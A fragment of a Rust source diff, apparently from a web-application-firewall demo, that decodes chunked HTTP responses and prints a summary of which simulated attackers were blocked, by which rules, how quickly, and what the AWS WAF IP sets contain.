+        let body = if headers
+            .to_ascii_lowercase()
+            .contains("transfer-encoding: chunked")
+        {
+            dechunk(body)
+        } else {
+            body.to_string()
+        };
+        Ok((status, body))
+    }
+}
+
+fn dechunk(mut s: &str) -> String {
+    let mut out = String::new();
+    while let Some((size, rest)) = s.split_once("\r\n") {
+        let Ok(n) = usize::from_str_radix(size.trim(), 16) else {
+            break;
+        };
+        if n == 0 || rest.len() < n {
+            break;
+        }
+        out.push_str(&rest[..n]);
+        s = rest[n..].trim_start_matches("\r\n");
+    }
+    out
+}
+
+/// Print the outcome for a person.
+pub fn print_summary(o: &DemoOutcome) {
+    println!();
+    println!("Palisade demo — sensor source: {:?}", o.mode);
+    println!(
+        "{} requests sent through the load balancer, {} answered",
+        o.requests_sent, o.requests_answered
+    );
+    println!();
+    println!(
+        "{:<20} {:<52} {:<28} {:>10}",
+        "attacker", "what it sent", "caught by rule", "blocked in"
+    );
+    for a in &o.attackers {
+        let rules = if a.rules.is_empty() {
+            "-".to_string()
+        } else {
+            a.rules.join(", ")
+        };
+        let t = a
+            .seconds_to_block
+            .map(|s| format!("{s:.1} s"))
+            .unwrap_or_else(|| "NOT BLOCKED".to_string());
+        println!(
+            "{:<20} {:<52} {:<28} {:>10}",
+            a.client.to_string(),
+            a.attack,
+            rules,
+            t
+        );
+    }
+    println!();
+    if o.benign_blocked.is_empty() {
+        println!(
+            "No benign client was blocked ({} browsing clients).",
+            o.benign_clients
+        );
+    } else {
+        println!("BENIGN CLIENTS BLOCKED: {:?}", o.benign_blocked);
+    }
+    println!(
+        "AWS calls: {} UpdateIPSet, {} throttled (write budget 1/s per account and region)",
+        o.update_calls, o.throttled
+    );
+    println!();
+    println!("WAF IP sets as GetIPSet returns them:");
+    for (name, addrs) in &o.ip_sets {
+        println!("  {name}: {addrs:?}");
+    }
+    println!();
+    println!(
+        "{}",
+        if o.success() {
+            "Demo OK."
+        } else {
+            "Demo FAILED."
+        }
+    );
+}
